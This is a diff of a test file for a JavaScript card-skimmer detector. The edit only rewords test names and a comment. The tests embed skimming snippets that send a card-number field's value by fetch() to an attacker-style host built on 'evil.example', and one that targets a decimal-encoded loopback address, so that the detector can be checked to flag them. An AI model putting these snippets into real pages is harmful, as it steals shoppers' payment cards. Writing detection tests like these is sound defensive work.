@@ -1,4 +1,4 @@
-// Guards that no spelling of an address makes a stranger look like the page's own server.
+// No spelling of an address makes a stranger look like the page's own server.
 import { expect, it } from 'vitest'
 import { judgeScript } from '#detection/index.ts'
 
@@ -24,17 +24,17 @@ it.each([
   expect([verdict, reasons[0]?.code]).toEqual(['malicious', 'card-to-stranger'])
 })
 
-it('the card that goes to this machine by a number is told', () => {
+it('the card that goes to this machine by a number is reported', () => {
   expect(judgeScript(skimmer('//2130706433')).reasons.map(({ code }) => code)).toContain('card-to-this-machine')
 })
 
-it('what follows a hidden part of a host says whose it is, the ending of a file does not', () => {
+it('the visible end of a partly hidden host says whose it is, a file extension does not', () => {
   const to = (address: string) => judgeScript(`document.querySelector('#cc-number').onchange = (e) => fetch(${address})`)
   expect(to("'https://js.stripe.com' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
   expect(to("'https://' + e.target.value + '.evil.example/'").verdict).toBe('malicious')
   expect(to("'https://js.stripe.com' + e.target.value + '.min.js'").reasons.map(({ code }) => code)).not.toContain('card-to-stranger')
 })
 
-it('the card that goes to the page’s own server or to a provider is no theft', () => {
+it('the card that goes to the page’s own server or to a provider is not theft', () => {
   for (const address of ['/pay', 'pay', 'https://api.stripe.com/v1/tokens']) expect(judgeScript(skimmer(address)).verdict).toBe('benign')
 })
